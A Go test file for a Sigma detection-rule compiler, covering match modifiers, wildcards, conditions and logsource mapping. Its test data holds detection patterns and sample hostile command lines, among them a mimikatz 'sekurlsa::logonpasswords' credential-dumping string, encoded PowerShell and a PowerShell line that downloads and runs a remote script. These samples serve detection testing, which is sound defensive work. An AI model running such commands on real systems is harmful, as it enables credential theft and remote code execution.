package sigma

import (
	"sort"
	"strings"
	"testing"

	"github.com/mamori-soc/mamori/internal/event"
)

// compileOne compiles one rule body (the detection section and anything
// else) with a fixed logsource that maps to every event of channel "Test".
func compileOne(t testing.TB, detection string, ph Placeholders) *Set {
	t.Helper()
	src := "title: t\nid: r1\nlogsource: {product: test, service: test}\ndetection:\n" + indent(detection)
	rules, errs := Parse("t.yml", []byte(src))
	if len(errs) > 0 {
		t.Fatalf("Parse: %v\n%s", errs, src)
	}
	m, err := ParseMapping([]byte("index_fields: [Channel, EventID]\nlogsources:\n  - {product: test, service: test, conditions: {Channel: Test}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	set, cerrs := Compile(rules, CompileOptions{Mapping: m, Placeholders: ph})
	if len(cerrs) > 0 {
		t.Fatalf("Compile: %v", cerrs)
	}
	return set
}

func indent(s string) string {
	lines := strings.Split(strings.Trim(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = "    " + l
	}
	return strings.Join(lines, "\n") + "\n"
}

func mkEvent(kv ...string) *event.Event {
	ev := &event.Event{}
	ev.AddString("Channel", "Test")
	for i := 0; i+1 < len(kv); i += 2 {
		ev.AddString(kv[i], kv[i+1])
	}
	return ev
}

func TestMatch(t *testing.T) {
	type tc struct {
		name, det string
		ev        []string
		want      bool
	}
	cases := []tc{
		{"equals is case-insensitive", "sel: {Image: 'C:\\Windows\\cmd.exe'}\ncondition: sel", []string{"Image", `c:\windows\CMD.EXE`}, true},
		{"equals needs the whole value", "sel: {Image: 'cmd.exe'}\ncondition: sel", []string{"Image", `c:\cmd.exe`}, false},
		{"contains", "sel: {CommandLine|contains: ' -enc '}\ncondition: sel", []string{"CommandLine", "powershell.exe -ENC abc"}, true},
		{"contains miss", "sel: {CommandLine|contains: ' -enc '}\ncondition: sel", []string{"CommandLine", "powershell.exe -e abc"}, false},
		{"startswith", "sel: {Image|startswith: 'C:\\Users\\'}\ncondition: sel", []string{"Image", `C:\Users\x\a.exe`}, true},
		{"startswith miss", "sel: {Image|startswith: 'C:\\Users\\'}\ncondition: sel", []string{"Image", `D:\C:\Users\a.exe`}, false},
		{"endswith", "sel: {Image|endswith: '\\rundll32.exe'}\ncondition: sel", []string{"Image", `C:\Windows\System32\RUNDLL32.exe`}, true},
		{"endswith miss", "sel: {Image|endswith: '\\rundll32.exe'}\ncondition: sel", []string{"Image", `C:\rundll32.exe.bak`}, false},
		{"list is OR", "sel: {Image|endswith: ['\\a.exe', '\\b.exe']}\ncondition: sel", []string{"Image", `C:\b.exe`}, true},
		{"contains all", "sel: {CommandLine|contains|all: ['a1', 'b2']}\ncondition: sel", []string{"CommandLine", "x b2 y a1"}, true},
		{"contains all miss", "sel: {CommandLine|contains|all: ['a1', 'b2']}\ncondition: sel", []string{"CommandLine", "x b2 y"}, false},
		{"map is AND", "sel: {Image|endswith: '\\x.exe', User: bob}\ncondition: sel", []string{"Image", `\x.exe`, "User", "alice"}, false},
		{"list of maps is OR", "sel:\n  - {Image: a}\n  - {User: bob}\ncondition: sel", []string{"Image", "z", "User", "BOB"}, true},
		{"wildcard star", "sel: {Image: 'C:\\\\*\\evil?.exe'}\ncondition: sel", []string{"Image", `C:\tmp\x\evil1.exe`}, true},
		{"wildcard question needs one char", "sel: {Image: 'C:\\\\*\\evil?.exe'}\ncondition: sel", []string{"Image", `C:\tmp\evil.exe`}, false},
		{"wildcard inside contains", "sel: {CommandLine|contains: 'ipconfig*|*find'}\ncondition: sel", []string{"CommandLine", "cmd /c ipconfig /all | find \"IPv4\""}, true},
		{"escaped star is literal", "sel: {CommandLine: 'a\\*b'}\ncondition: sel", []string{"CommandLine", "a*b"}, true},
		{"escaped star does not glob", "sel: {CommandLine: 'a\\*b'}\ncondition: sel", []string{"CommandLine", "axxb"}, false},
		{"double backslash is one", "sel: {CommandLine|contains: ' \\\\\\\\'}\ncondition: sel", []string{"CommandLine", `net use \\host`}, true},
		{"plain backslash kept", "sel: {Image: 'C:\\Windows\\a.exe'}\ncondition: sel", []string{"Image", `C:\Windows\a.exe`}, true},
		{"star alone means present", "sel: {User: '*'}\ncondition: sel", []string{"User", "x"}, true},
		{"star alone absent", "sel: {User: '*'}\ncondition: sel", []string{"Image", "x"}, false},
		{"null absent", "sel: {User: null}\ncondition: sel", []string{"Image", "x"}, true},
		{"null empty", "sel: {User: null}\ncondition: sel", []string{"User", ""}, true},
		{"null present", "sel: {User: null}\ncondition: sel", []string{"User", "x"}, false},
		{"empty string", "sel: {User: ''}\ncondition: sel", []string{"User", ""}, true},
		{"number", "sel: {EventID: 4688}\ncondition: sel", []string{"EventID", "4688"}, true},
		{"hex text kept", "sel: {GrantedAccess: 0x1fffff}\ncondition: sel", []string{"GrantedAccess", "0x1FFFFF"}, true},
		{"keywords", "keywords: ['mimikatz', 'sekurlsa']\ncondition: keywords", []string{"Data", "run sekurlsa::logonpasswords"}, true},
		{"keywords miss", "keywords: ['mimikatz']\ncondition: keywords", []string{"Data", "benign"}, false},
		{"keywords all", "keywords:\n  '|all': ['a1', 'b2']\ncondition: keywords", []string{"X", "a1", "Y", "b2"}, true},
		{"not", "sel: {Image|endswith: '.exe'}\nfilter: {Image|startswith: 'C:\\Windows\\'}\ncondition: sel and not filter", []string{"Image", `C:\Windows\a.exe`}, false},
		{"not passes", "sel: {Image|endswith: '.exe'}\nfilter: {Image|startswith: 'C:\\Windows\\'}\ncondition: sel and not filter", []string{"Image", `C:\Temp\a.exe`}, true},
		{"1 of pattern", "sel_a: {A: 1}\nsel_b: {B: 2}\ncondition: 1 of sel_*", []string{"B", "2"}, true},
		{"all of pattern", "sel_a: {A: 1}\nsel_b: {B: 2}\ncondition: all of sel_*", []string{"B", "2"}, false},
		{"digit before star", "selection_1_a: {A: 1}\nselection_1_b: {B: 2}\ncondition: all of selection_1_*", []string{"A", "1", "B", "2"}, true},
		{"1 of them skips underscore", "sel: {A: 1}\n_hidden: {B: 2}\ncondition: 1 of them", []string{"B", "2"}, false},
		{"precedence and over or", "a: {A: 1}\nb: {B: 1}\nc: {C: 1}\ncondition: a or b and c", []string{"A", "1"}, true},
		{"precedence not over and", "a: {A: 1}\nb: {B: 1}\ncondition: not a and b", []string{"A", "1", "B", "1"}, false},
		{"parentheses", "a: {A: 1}\nb: {B: 1}\nc: {C: 1}\ncondition: (a or b) and c", []string{"A", "1"}, false},
		{"condition list is OR", "a: {A: 1}\nb: {B: 1}\ncondition: [a, b]", []string{"B", "1"}, true},
		{"re", "sel: {CommandLine|re: '\\s-[eE]nc\\s'}\ncondition: sel", []string{"CommandLine", "ps -Enc x"}, true},
		{"re is case-sensitive", "sel: {CommandLine|re: 'ABC'}\ncondition: sel", []string{"CommandLine", "abc"}, false},
		{"re i", "sel: {CommandLine|re|i: 'ABC'}\ncondition: sel", []string{"CommandLine", "xabcx"}, true},
		{"re s", "sel: {CommandLine|re|s: 'a.b'}\ncondition: sel", []string{"CommandLine", "a\nb"}, true},
		{"re m", "sel: {CommandLine|re|m: '^b$'}\ncondition: sel", []string{"CommandLine", "a\nb"}, true},
		{"cased", "sel: {CommandLine|cased: 'ABC'}\ncondition: sel", []string{"CommandLine", "abc"}, false},
		{"cased glob", "sel: {CommandLine|cased: 'AB*CD'}\ncondition: sel", []string{"CommandLine", "ABxxCD"}, true},
		{"cased glob miss", "sel: {CommandLine|cased: 'AB*CD'}\ncondition: sel", []string{"CommandLine", "abxxcd"}, false},
		{"upper-case value, lower-case rule", "sel: {CommandLine|contains: 'mimikatz'}\ncondition: sel", []string{"CommandLine", "RUN MIMIKATZ.EXE NOW"}, true},
		{"non-ASCII value", "sel: {CommandLine|contains: 'übel'}\ncondition: sel", []string{"CommandLine", "ÜBEL.exe"}, true},
		{"cased hit", "sel: {CommandLine|contains|cased: 'ABC'}\ncondition: sel", []string{"CommandLine", "xABCx"}, true},
		{"base64", "sel: {CommandLine|base64|contains: 'http://'}\ncondition: sel", []string{"CommandLine", "x aHR0cDovLw== y"}, true},
		{"base64offset 0", "sel: {CommandLine|base64offset|contains: 'http://'}\ncondition: sel", []string{"CommandLine", "aHR0cDovL"}, true},
		{"base64offset 1", "sel: {CommandLine|base64offset|contains: 'http://'}\ncondition: sel", []string{"CommandLine", "eGh0dHA6Ly9"}, true},
		{"base64offset 2", "sel: {CommandLine|base64offset|contains: 'http://'}\ncondition: sel", []string{"CommandLine", "eHhodHRwOi8v"}, true},
		{"wide base64offset", "sel: {CommandLine|wide|base64offset|contains: 'ping'}\ncondition: sel", []string{"CommandLine", "powershell -e cABpAG4AZwA="}, true},
		{"utf16le", "sel: {Data|utf16le|contains: 'ab'}\ncondition: sel", []string{"Data", "xa\x00b\x00"}, true},
		{"utf16be", "sel: {Data|utf16be|contains: 'ab'}\ncondition: sel", []string{"Data", "\x00a\x00b"}, true},
		{"utf16 bom", "sel: {Data|utf16|startswith: 'ab'}\ncondition: sel", []string{"Data", "\xff\xfea\x00b\x00c\x00"}, true},
		{"windash slash", "sel: {CommandLine|contains|windash: ' -exec '}\ncondition: sel", []string{"CommandLine", "x /exec y"}, true},
		{"windash en dash", "sel: {CommandLine|contains|windash: ' -exec '}\ncondition: sel", []string{"CommandLine", "x \u2013exec y"}, true},
		{"windash keeps inner dash", "sel: {CommandLine|contains|windash: 'a-b'}\ncondition: sel", []string{"CommandLine", "a/b"}, false},
		{"cidr v4", "sel: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: sel", []string{"DestinationIp", "10.2.3.4"}, true},
		{"cidr v4 miss", "sel: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: sel", []string{"DestinationIp", "11.2.3.4"}, false},
		{"cidr v6", "sel: {DestinationIp|cidr: 'fe80::/10'}\ncondition: sel", []string{"DestinationIp", "fe80::1"}, true},
		{"cidr mapped", "sel: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: sel", []string{"DestinationIp", "::ffff:10.0.0.1"}, true},
		{"exists", "sel: {User|exists: true}\ncondition: sel", []string{"User", ""}, true},
		{"exists false", "sel: {User|exists: false}\ncondition: sel", []string{"User", "x"}, false},
		{"fieldref", "sel: {SourceUser|fieldref: TargetUser}\ncondition: sel", []string{"SourceUser", "Bob", "TargetUser", "bob"}, true},
		{"fieldref miss", "sel: {SourceUser|fieldref: TargetUser}\ncondition: sel", []string{"SourceUser", "Bob", "TargetUser", "al"}, false},
		{"fieldref endswith", "sel: {A|fieldref|endswith: B}\ncondition: sel", []string{"A", `c:\x\y.exe`, "B", `y.exe`}, true},
		{"gt", "sel: {Count|gt: 10}\ncondition: sel", []string{"Count", "11"}, true},
		{"gt miss", "sel: {Count|gt: 10}\ncondition: sel", []string{"Count", "10"}, false},
		{"lte", "sel: {Count|lte: 10}\ncondition: sel", []string{"Count", "10"}, true},
		{"lt hex", "sel: {Count|lt: 10}\ncondition: sel", []string{"Count", "0x9"}, true},
		{"neq", "sel: {User|neq: bob}\ncondition: sel", []string{"User", "alice"}, true},
		{"neq miss", "sel: {User|neq: bob}\ncondition: sel", []string{"User", "BOB"}, false},
		{"hour", "sel: {UtcTime|hour: 3}\ncondition: sel", []string{"UtcTime", "2024-01-02 03:04:05.000"}, true},
		{"multi-valued field any", "sel: {Data: b}\ncondition: sel", []string{"Data", "a", "Data", "B"}, true},
		{"unicode fold", "sel: {User: 'ÄBC'}\ncondition: sel", []string{"User", "äbc"}, true},
		{"percent without expand is literal", "sel: {CommandLine|contains: '%temp%'}\ncondition: sel", []string{"CommandLine", "copy x %TEMP%\\y"}, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			set := compileOne(t, c.det, nil)
			got := len(set.NewMatcher().Match(mkEvent(c.ev...), nil)) > 0
			if got != c.want {
				t.Errorf("Match(%v) = %v, want %v\nrule:\n%s", c.ev, got, c.want, c.det)
			}
		})
	}
}

func TestExpand(t *testing.T) {
	ph := PlaceholderMap{"admins": {"alice", "bob*"}}
	set := compileOne(t, "sel: {User|expand: '%admins%'}\ncondition: sel", ph)
	m := set.NewMatcher()
	for _, tc := range []struct {
		user string
		want bool
	}{{"alice", true}, {"bobby", true}, {"carol", false}} {
		if got := len(m.Match(mkEvent("User", tc.user), nil)) > 0; got != tc.want {
			t.Errorf("User=%q: got %v, want %v", tc.user, got, tc.want)
		}
	}
	// An unconfigured placeholder is an error that names it.
	rules, _ := Parse("t.yml", []byte("title: t\nlogsource: {product: test}\ndetection:\n  sel: {User|expand: '%nope%'}\n  condition: sel\n"))
	if _, errs := Compile(rules, CompileOptions{}); len(errs) != 1 || !strings.Contains(errs[0].Error(), "%nope%") {
		t.Errorf("Compile with unknown placeholder: errs = %v, want one naming %%nope%%", errs)
	}
}

// TestMatchAgreesWithNaive cross-checks the compiled matcher (automata,
// triggers, buckets) against direct evaluation of every rule's condition.
func TestMatchAgreesWithNaive(t *testing.T) {
	det := `
sel_img: {Image|endswith: ['\powershell.exe', '\pwsh.exe']}
sel_cli: {CommandLine|contains: [' -enc', 'downloadstring', 'iex(']}
sel_glob: {CommandLine: '*http*://*.ps1*'}
filter: {ParentImage|startswith: 'C:\Program Files\'}
condition: (sel_img and sel_cli or sel_glob) and not filter`
	set := compileOne(t, det, nil)
	m := set.NewMatcher()
	images := []string{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\pwsh.exe`, `C:\x\cmd.exe`}
	clis := []string{"powershell -enc AAA", "IEX(New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "dir", "get http://a.b/c.ps1 now"}
	parents := []string{`C:\Program Files\x.exe`, `C:\Windows\explorer.exe`}
	for _, img := range images {
		for _, cli := range clis {
			for _, p := range parents {
				ev := mkEvent("Image", img, "CommandLine", cli, "ParentImage", p)
				got := len(m.Match(ev, nil)) > 0
				lc := strings.ToLower(cli)
				want := ((strings.HasSuffix(strings.ToLower(img), `\powershell.exe`) || strings.HasSuffix(img, `\pwsh.exe`)) &&
					(strings.Contains(lc, " -enc") || strings.Contains(lc, "downloadstring") || strings.Contains(lc, "iex(")) ||
					strings.Contains(lc, "http") && strings.Contains(lc, ".ps1")) && !strings.HasPrefix(p, `C:\Program Files\`)
				if got != want {
					t.Errorf("Image=%q CommandLine=%q Parent=%q: got %v, want %v", img, cli, p, got, want)
				}
			}
		}
	}
}

func TestLogsourceBuckets(t *testing.T) {
	src := `title: proc
id: p1
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\whoami.exe'}
  condition: sel
---
title: sec
id: s1
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4625}
  condition: sel
`
	rules, errs := Parse("t.yml", []byte(src))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	set, cerrs := Compile(rules, CompileOptions{})
	if len(cerrs) > 0 {
		t.Fatal(cerrs)
	}
	m := set.NewMatcher()
	match := func(kv ...string) []string {
		ev := &event.Event{}
		for i := 0; i+1 < len(kv); i += 2 {
			ev.AddString(kv[i], kv[i+1])
		}
		var ids []string
		for _, i := range m.Match(ev, nil) {
			ids = append(ids, set.Rules[i].ID)
		}
		sort.Strings(ids)
		return ids
	}
	tests := []struct {
		name string
		ev   []string
		want string
	}{
		{"sysmon 1", []string{"Channel", "Microsoft-Windows-Sysmon/Operational", "EventID", "1", "Image", `C:\w\whoami.exe`}, "p1"},
		{"security 4688 renamed field", []string{"Channel", "Security", "EventID", "4688", "NewProcessName", `C:\w\whoami.exe`}, "p1"},
		{"security 4688 rule field name absent", []string{"Channel", "Security", "EventID", "4688", "Image", `C:\w\whoami.exe`}, ""},
		{"sysmon other event id", []string{"Channel", "Microsoft-Windows-Sysmon/Operational", "EventID", "11", "Image", `C:\w\whoami.exe`}, ""},
		{"security service", []string{"Channel", "security", "EventID", "4625"}, "s1"},
		{"no channel", []string{"EventID", "4625"}, ""},
	}
	for _, tc := range tests {
		if got := strings.Join(match(tc.ev...), ","); got != tc.want {
			t.Errorf("%s: matched %q, want %q", tc.name, got, tc.want)
		}
	}
}

func TestMatchDoesNotAllocate(t *testing.T) {
	det := `
sel: {Image|endswith: '\x.exe', CommandLine|contains: ['abc', 'def*ghi']}
re: {CommandLine|re: 'q[0-9]+z'}
ip: {DestinationIp|cidr: '10.0.0.0/8'}
condition: sel or re or ip`
	set := compileOne(t, det, nil)
	m := set.NewMatcher()
	ev := mkEvent("Image", `C:\X.exe`, "CommandLine", "ABC def-GHI q12z", "DestinationIp", "10.1.1.1")
	dst := make([]int, 0, 8)
	if got := len(m.Match(ev, dst[:0])); got != 1 {
		t.Fatalf("Match = %d rules, want 1", got)
	}
	if n := testing.AllocsPerRun(200, func() { dst = m.Match(ev, dst[:0]) }); n != 0 {
		t.Errorf("Match allocates %.1f times per event, want 0", n)
	}
}
